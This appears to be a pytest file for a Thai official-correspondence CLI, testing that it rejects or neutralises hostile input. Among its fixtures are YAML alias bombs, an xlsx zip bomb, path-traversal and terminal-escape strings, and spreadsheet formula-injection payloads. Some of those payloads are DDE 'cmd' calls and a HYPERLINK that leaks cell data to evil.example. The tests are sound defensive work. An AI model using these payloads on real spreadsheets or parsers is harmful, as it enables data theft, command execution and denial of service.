"""Bounded and validated input (issue 9): the reproductions of items 2, 4, 7 and 8, each ending
in one clear line and exit 1, or in correct behaviour. See docs/limits.md."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import resource
import select
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, case_count, run_cli
from test_cli import LETTER, issue, write_data

from engine import limits
from engine.thai import apply_digit_policy

# --- helpers ----------------------------------------------------------------------------------


def saraban_process(ws: Path, *args: str | bytes, env: dict | None = None) -> tuple[int, str, int]:
    """Run saraban as a real process; (exit status, stderr, peak memory in MB). The process runs
    under a 2 GB address-space limit, so a runaway would die rather than take the machine."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    proc = subprocess.Popen(
        [sys.executable, "-m", "engine.cli", "--workspace", str(ws), *args],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "utf-8", **(env or {})},
        preexec_fn=limit,
    )
    assert proc.stderr is not None
    deadline = time.monotonic() + 60  # a generous timeout: the bomb used to run for ever
    chunks = []
    while True:
        ready, _, _ = select.select([proc.stderr], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            proc.kill()
            os.wait4(proc.pid, 0)
            proc.returncode = -9
            raise AssertionError(f"saraban {args} did not finish within 60 s")
        chunk = os.read(proc.stderr.fileno(), 65536)
        if not chunk:
            break
        chunks.append(chunk)
    _, status, usage = os.wait4(proc.pid, 0)  # this child's own peak memory
    proc.returncode = os.waitstatus_to_exitcode(status)
    proc.stderr.close()
    return proc.returncode, b"".join(chunks).decode("utf-8", "replace"), usage.ru_maxrss // 1024


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """Nine levels of nine aliases: 9**9 (387 million) strings once expanded."""
    lines = [f"l0: &l0 [{', '.join(['lol'] * width)}]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def one_error(result, *parts: str) -> str:
    """The result is exit 1 with one line "saraban: error: …" holding every part."""
    assert result.code == 1, (result.out, result.err)
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("saraban: error: "), result.err
    for part in parts:
        assert part in lines[0], (part, lines[0])
    return lines[0]


def counters(ws: Path) -> list[tuple]:
    db = ws / "letters" / "register.db"
    if not db.exists():
        return []
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT series, year, next_number FROM counters").fetchall()


# --- item 2: alias bombs and file sizes ------------------------------------------------------


def test_alias_bomb_in_a_data_file_is_refused_at_once_as_a_real_process(dla: Path) -> None:
    data = dla / "bomb.yaml"
    data.write_text(alias_bomb() + LETTER, encoding="utf-8")
    code, err, peak = saraban_process(dla, "new", "letter", "--data", str(data))
    assert code == 1, err
    assert err.count("\n") == 1 and err.startswith(f"saraban: error: {data}:"), err
    assert "too many values" in err and f"{limits.MAX_YAML_VALUES:,}" in err
    assert peak < 400, f"{peak} MB"  # the expansion is never built (it would be gigabytes)
    assert case_count(dla) == 0


def test_alias_bomb_in_office_yaml_workflow_and_recipients(tambon: Path, dla: Path) -> None:
    office = dla / "office.yaml"
    office.write_text(office.read_text(encoding="utf-8") + alias_bomb(), encoding="utf-8")
    code, err, peak = saraban_process(dla, "new", "letter", "--data", str(write_data(dla)))
    assert code == 1 and f"{office}:" in err and "too many values" in err, err
    assert peak < 400

    # a workspace workflow
    (tambon / "workflows").mkdir()
    wf = tambon / "workflows" / "bomb.yaml"
    wf.write_text(alias_bomb(), encoding="utf-8")
    one_error(run_cli("workflow", "show", "bomb", workspace=tambon), str(wf), "too many values")

    # a circular's recipients (YAML)
    recipients = tambon / "recipients.yaml"
    recipients.write_text(alias_bomb(), encoding="utf-8")
    data = write_data(
        tambon,
        "to: ทุกแห่ง\nsubject: ทดสอบ\nbody: ข้อความ\nsigner: nayok\nrecipients: recipients.yaml\n",
    )
    result = run_cli("new", "circular", "--data", str(data), workspace=tambon)
    one_error(result, "recipients.yaml", "too many values")
    assert case_count(tambon) == 0


def test_merge_key_bomb_self_reference_and_deep_nesting(dla: Path) -> None:
    merges = ["a0: &a0 {k: v}"]
    for i in range(1, 9):
        merges.append(f"a{i}: &a{i} {{<<: [{', '.join([f'*a{i - 1}'] * 9)}], k{i}: v}}")
    cases = {
        "merge.yaml": "\n".join(merges) + "\n",
        "self.yaml": "a: &a [1, *a]\n",
        "deep.yaml": "a: " + "[" * 100 + "]" * 100 + "\n",
        "deeper.yaml": "a: " + "[" * 20000 + "]" * 20000 + "\n",  # past Python's recursion
    }
    for name, text in cases.items():
        (dla / name).write_text(text, encoding="utf-8")
        result = run_cli("new", "letter", "--data", str(dla / name), workspace=dla)
        one_error(result, name)
    assert "refers to itself" in run_cli("new", "letter", "--data", str(dla / "self.yaml"),
                                         workspace=dla).err  # fmt: skip
    assert "nested more than" in run_cli("new", "letter", "--data", str(dla / "deep.yaml"),
                                         workspace=dla).err  # fmt: skip


def test_ordinary_aliases_still_work(dla: Path) -> None:
    data = write_data(dla, LETTER + "cc: &both [สำนักงาน ก, สำนักงาน ข]\nenclosures: *both\n")
    result = issue(dla, data=data)
    assert result.code == 0, result.err


def test_dev_zero_as_data_stops_at_once_as_a_real_process(dla: Path) -> None:
    code, err, peak = saraban_process(dla, "new", "letter", "--data", "/dev/zero")
    assert code == 1
    assert (
        err
        == "saraban: error: /dev/zero: the file is larger than 1 MB, the limit for a data file\n"
    )
    assert peak < 200, f"{peak} MB"


def test_file_size_limits_per_kind(tambon: Path) -> None:
    big = tambon / "big.yaml"
    big.write_bytes(b"# " + b"x" * limits.FILE_LIMITS["data"] + b"\n")
    one_error(run_cli("new", "letter", "--data", str(big), workspace=tambon),
              "big.yaml: the file is larger than 1 MB, the limit for a data file")  # fmt: skip
    office = tambon / "office.yaml"
    office.write_bytes(office.read_bytes() + b"#" * limits.FILE_LIMITS["office"])
    result = run_cli("check", workspace=tambon)  # check lists its problems, one a line
    assert result.code == 1
    assert f"{office}: the file is larger than 1 MB, the limit for a office file" in result.err


def test_recipients_limits(tambon: Path) -> None:
    def circular(recipients: str) -> str:
        data = write_data(
            tambon,
            f"to: ทุกแห่ง\nsubject: ทดสอบ\nbody: ข้อความ\nsigner: nayok\nrecipients: {recipients}\n",
        )
        return one_error(run_cli("new", "circular", "--data", str(data), workspace=tambon))

    many = tambon / "many.csv"
    with many.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["organisation", "position"])
        for i in range(limits.MAX_RECIPIENTS + 1):
            writer.writerow([f"องค์การบริหารส่วนตำบลที่ {i}", "นายกองค์การบริหารส่วนตำบล"])
    assert "more than 10,000 recipients" in circular("many.csv")

    huge = tambon / "huge.csv"
    huge.write_bytes(
        b"organisation,position\n" + b"x,y\n" * (limits.FILE_LIMITS["recipients"] // 4)
    )
    assert "huge.csv: the file is larger than 16 MB" in circular("huge.csv")

    bomb = tambon / "bomb.xlsx"  # a zip that unpacks far larger than it is
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * (limits.MAX_XLSX_UNPACKED + 1))
    assert bomb.stat().st_size < 1 << 20
    assert "unpacks to more than 128 MB" in circular("bomb.xlsx")
    assert case_count(tambon) == 0


# --- items 7 and 8: numbers ---------------------------------------------------------------------


def test_absurd_numbers_are_one_clear_line(dla: Path) -> None:
    assert issue(dla).code == 0
    one_error(run_cli("advance", "99999999999999999999999", "send", workspace=dla),
              "case: a case number must be from 1 to 999999999")  # fmt: skip
    one_error(run_cli("advance", "9" * 5000, "send", workspace=dla), "case")
    one_error(run_cli("show", "99999999999999999999999", workspace=dla), "case")
    one_error(run_cli("due", "--days", "99999999999", workspace=dla),
              "--days: the days to look ahead are from 0 to 3660")  # fmt: skip
    one_error(run_cli("due", "--days", "-1", workspace=dla), "--days")
    one_error(run_cli("register", "start", "--year", "2568", "--next", "99999999999999999999",
                      workspace=dla), "--next: the next number is from 1 to 999999")  # fmt: skip
    one_error(run_cli("register", "cancel", "99999999999999999999", "--year", "2568",
                      "--reason", "x", workspace=dla), "number")  # fmt: skip
    one_error(run_cli("regenerate", "--workers", "99999999999", workspace=dla), "--workers")
    one_error(run_cli("register", "list", "--year", "99999", workspace=dla), "--year")
    one_error(run_cli("register", "start", "--year", "2800", "--next", "5", workspace=dla),
              "year", "BE 2443-2742")  # fmt: skip
    assert all(n <= limits.MAX_RUNNING_NUMBER for *_, n in counters(dla))


def test_next_near_int64_is_refused_and_the_series_is_not_stuck(dla: Path) -> None:
    result = run_cli("register", "start", "--year", "2568", "--next", "9223372036854775806",
                     workspace=dla)  # fmt: skip
    one_error(result, "--next", "999999")
    assert counters(dla) == []
    assert issue(dla).code == 0  # the series goes on at 1
    assert (
        run_cli("register", "start", "--year", "2568", "--next", "999999", workspace=dla).code == 0
    )
    assert issue(dla).code == 0  # number 999999, the last one
    one_error(issue(dla), "no number is left")


# --- item 7/8: dates ----------------------------------------------------------------------------


def test_empty_date_is_an_error(dla: Path) -> None:
    one_error(issue(dla, date=""), "--date: empty")
    one_error(run_cli("register", "correct", "มท 0808.4/1", "--date", "", workspace=dla), "--date")
    assert case_count(dla) == 0


def test_dates_far_from_today_need_force(dla: Path) -> None:
    today = dt.date.today()
    far_ahead = (today + dt.timedelta(days=400)).isoformat()
    far_back = today.replace(year=today.year - 11).isoformat()
    line = one_error(
        issue(dla, date=far_ahead), "--date", "more than a year after today", "--force"
    )
    assert far_ahead in line
    one_error(issue(dla, date=far_back), "more than 10 years before today")
    assert case_count(dla) == 0
    assert issue(dla, "--force", date=far_back).code == 0
    # a date in the data file: the error names the file, the line and the key
    data = write_data(dla, LETTER + f"date: {far_ahead}\n", name="dated.yaml")
    line = len(LETTER.splitlines()) + 1
    result = run_cli("new", "letter", "--data", str(data), workspace=dla)
    one_error(result, f"{data}:{line}: date: {far_ahead} is more than a year after today")
    # advance and register correct take --force too
    one_error(run_cli("advance", "1", "send", "--date", far_ahead, workspace=dla), "--date")
    printed = json.loads(run_cli("register", "list", "--json", workspace=dla).out)[0]
    other_day = (dt.date.fromisoformat(far_back) + dt.timedelta(days=1)).isoformat()
    correct = ("register", "correct", printed["number_text"], "--date", other_day)
    one_error(run_cli(*correct, workspace=dla), "--date", "more than 10 years before today")
    assert run_cli(*correct, "--force", workspace=dla).code == 0


def test_two_digit_year_99_is_not_be_2599(dla: Path) -> None:
    line = one_error(issue(dla, date="25 มี.ค. 99"), "1956-03-25")  # BE 2499
    assert "2599" not in line and "2056" not in line


# --- item 8: unknown series and states ------------------------------------------------------------


def test_series_must_be_known(dla: Path) -> None:
    one_error(run_cli("register", "start", "--series", "../../evil", "--year", "2568", "--next",
                      "5", workspace=dla), "--series: unknown series '../../evil'",
              "normal, circular, order")  # fmt: skip
    assert counters(dla) == []
    assert not list(dla.rglob("*evil*"))
    one_error(run_cli("register", "list", "--series", "bogus", workspace=dla),
              "unknown series 'bogus'")  # fmt: skip
    assert run_cli("register", "start", "--series", "order", "--year", "2568", "--next", "5",
                   workspace=dla).code == 0  # fmt: skip
    assert run_cli("register", "list", "--series", "order", workspace=dla).code == 0


def test_unknown_state_or_workflow_is_an_error(tambon: Path) -> None:
    line = one_error(run_cli("cases", "--state", "nosuch", workspace=tambon),
                     "--state: unknown state 'nosuch'")  # fmt: skip
    assert "draft" in line and "confirmed" in line
    one_error(run_cli("cases", "--workflow", "nosuch", workspace=tambon), "unknown workflow")
    one_error(run_cli("cases", "--workflow", "letter", "--state", "confirmed", workspace=tambon),
              "the states of workflow letter")  # fmt: skip
    assert run_cli("cases", "--state", "confirmed", workspace=tambon).code == 0


# --- item 8: --set ------------------------------------------------------------------------------


def test_empty_set_value_blames_set(dla: Path) -> None:
    data = write_data(dla)
    result = run_cli("new", "letter", "--data", str(data), "--set", "subject=", workspace=dla)
    assert one_error(result) == "saraban: error: --set: subject: empty; this key needs a value"


def test_set_values_are_scalars_without_anchors_aliases_or_tags(dla: Path, tambon: Path) -> None:
    data = write_data(dla)
    result = run_cli("new", "letter", "--data", str(data), "--set", "signer=&a x", workspace=dla)
    one_error(result, "unknown signer '&a x'")  # the text as typed, not the anchor's 'x'
    for value in ("*a", "!!str x", "&a x"):
        result = run_cli("new", "letter", "--data", str(data), "--set", f"subject={value}",
                         "--json", workspace=dla)  # fmt: skip
        assert result.code == 0, result.err
        case = json.loads(run_cli("show", str(json.loads(result.out)["case"]), "--json",
                                  workspace=dla).out)  # fmt: skip
        assert case["data"]["subject"] == value
    # YAML scalars still are what they were: a boolean, quoted text
    result = run_cli("new", "letter", "--data", str(data), "--set", "circular=true",
                     "--set", "subject='ข้อความ: ในเครื่องหมาย'", "--json", workspace=dla)  # fmt: skip
    case = json.loads(run_cli("show", str(json.loads(result.out)["case"]), "--json",
                              workspace=dla).out)  # fmt: skip
    assert case["data"]["circular"] is True
    assert case["data"]["subject"] == "ข้อความ: ในเครื่องหมาย"
    # a typed workflow's list or mapping: no anchors there either
    result = run_cli("new", "appoint-admin", "--data", str(ROOT / "examples/appoint-admin.yaml"),
                     "--set", "incoming={title: &t นาย, name: *t}", workspace=tambon)  # fmt: skip
    one_error(result, "--set: incoming: YAML anchors (&), aliases (*) and tags (!) are not allowed")


# --- item 8: control characters -------------------------------------------------------------------


def test_control_characters_in_by_are_refused(dla: Path) -> None:
    result = issue(dla, "--by", "\x1b[31mred\nline")
    line = one_error(result, "--by: control characters")
    assert "\x1b" not in result.err and "\\x1b[31mred\\nline" in line
    assert case_count(dla) == 0
    code, err, _ = saraban_process(dla, "new", "letter", "--data", str(write_data(dla)),
                                   env={"SARABAN_USER": "a\nb"})  # fmt: skip
    assert code == 1 and "$SARABAN_USER: control characters" in err and err.count("\n") == 1


def test_control_characters_in_data_print_escaped(dla: Path) -> None:
    data = write_data(dla, LETTER.replace("ขอความอนุเคราะห์ข้อมูล",
                                          '"\\e[2J\\e[31mแดง\\nบรรทัดใหม่\\u202e\\x9b"'),
                      name="ctl.yaml")  # fmt: skip
    assert issue(dla).code == 0  # an ordinary letter too
    result = issue(dla, data=data)
    assert result.code == 0, result.err
    shown = run_cli("show", "2", workspace=dla).out + run_cli("register", "list",
                                                               workspace=dla).out  # fmt: skip
    for raw in ("\x1b", "\u202e", "\x9b"):
        assert raw not in shown
    assert "\\x1b[2J\\x1b[31mแดง\\nบรรทัดใหม่\\u202e\\x9b" in shown
    # every register row is one line
    listed = run_cli("register", "list", workspace=dla).out.splitlines()
    assert len(listed) == 2
    # JSON keeps the value, escaped the JSON way
    as_json = run_cli("register", "list", "--json", workspace=dla).out
    assert "\x1b" not in as_json and "\x9b" not in as_json
    assert json.loads(as_json)[1]["subject"] == "\x1b[2J\x1b[31mแดง\nบรรทัดใหม่\u202e\x9b"


# --- item 7: lone surrogates and bytes that are not UTF-8 ---------------------------------------


def test_lone_surrogate_in_data_names_file_and_field(dla: Path) -> None:
    data = write_data(dla, LETTER.replace("ขอความอนุเคราะห์ข้อมูล", '"ab\\ud800"'))
    one_error(issue(dla, data=data), f"{data}:2: subject: not valid text", "lone surrogate")
    bad = dla / "latin1.yaml"
    bad.write_bytes(LETTER.encode("utf-8").replace("ขอ".encode(), b"\xff", 1))
    one_error(issue(dla, data=bad), f"{bad}: not UTF-8 text")
    assert case_count(dla) == 0


def test_argument_that_is_not_utf8_is_one_line_as_a_real_process(dla: Path) -> None:
    data = str(write_data(dla))
    code, err, _ = saraban_process(dla, "new", "letter", "--data", data, "--set", b"subject=\xff")
    assert code == 1 and err.count("\n") == 1
    assert "is not valid UTF-8 text" in err and "Traceback" not in err


# --- item 4: formula injection in the exports ---------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
]


def _exports(ws: Path) -> tuple[list[list[str]], object]:
    from openpyxl import load_workbook

    out = run_cli("register", "export", "--format", "csv", workspace=ws).out
    table = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
    xlsx = ws / "register.xlsx"
    assert (
        run_cli("register", "export", "--format", "xlsx", "-o", str(xlsx), workspace=ws).code == 0
    )
    with zipfile.ZipFile(xlsx) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    return table, load_workbook(xlsx).active


def test_exports_neutralise_formulas(dla: Path) -> None:
    for payload in PAYLOADS:
        data = write_data(dla, LETTER.replace("ขอความอนุเคราะห์ข้อมูล", json.dumps(payload)))
        assert issue(dla, data=data).code == 0
    data = write_data(dla, LETTER.replace("ขอความอนุเคราะห์ข้อมูล", '"-"'))
    assert issue(dla, data=data).code == 0
    stored = [e["subject"] for e in json.loads(run_cli("register", "list", "--json",
                                                        workspace=dla).out)]  # fmt: skip
    assert stored[-1] == "-" and all(s[:1] in "=+-@\t\r＝" for s in stored)
    table, sheet = _exports(dla)
    subjects = [row[5] for row in table[1:]]
    # in the office's (Thai) digits, as the letters print them: "+1+2" is "+๑+๒"
    assert subjects == [f"'{apply_digit_policy(s)}" for s in stored[:-1]] + ["-"]  # "-": inert
    for row, subject in enumerate(stored[:-1], start=2):
        cell = sheet.cell(row=row, column=6)
        assert cell.value == apply_digit_policy(subject)
        assert cell.data_type == "s" and cell.quotePrefix
        assert sheet.cell(row=row, column=1).data_type == "n"  # the running number
    last = sheet.cell(row=len(stored) + 1, column=6)
    assert last.value == "-" and not last.quotePrefix


def test_exports_neutralise_what_register_correct_wrote(dla: Path) -> None:
    assert issue(dla).code == 0
    number = run_cli("register", "list", "--json", workspace=dla)
    printed = json.loads(number.out)[0]["number_text"]
    result = run_cli("register", "correct", printed, "--subject", "=1+2", "--to",
                     "@SUM(A1:A9)", workspace=dla)  # fmt: skip
    assert result.code == 0, result.err
    table, sheet = _exports(dla)
    assert table[1][4:6] == ["'@SUM(A1:A9)", "'=๑+๒"]
    assert [sheet.cell(row=2, column=c).value for c in (5, 6)] == [
        "@SUM(A1:A9)",
        "=๑+๒",
    ]  # Thai digits, text
    assert all(sheet.cell(row=2, column=c).data_type == "s" for c in (5, 6))


@pytest.mark.parametrize(
    ("value", "neutralised"),
    [("-", "-"), ("---", "---"), ("-5", "-5"), ("+66", "+66"), ("1.5", "1.5"),
     ("-5+1", "'-5+1"), ("@", "'@"), ("=", "'="), ("", ""), ("ปกติ", "ปกติ"),
     ("044-123-456", "044-123-456"), ("-044-123", "'-044-123")],
)  # fmt: skip
def test_neutralise_leaves_plain_numbers_and_dashes(value: str, neutralised: str) -> None:
    from engine.register import neutralise

    assert neutralise(value) == neutralised
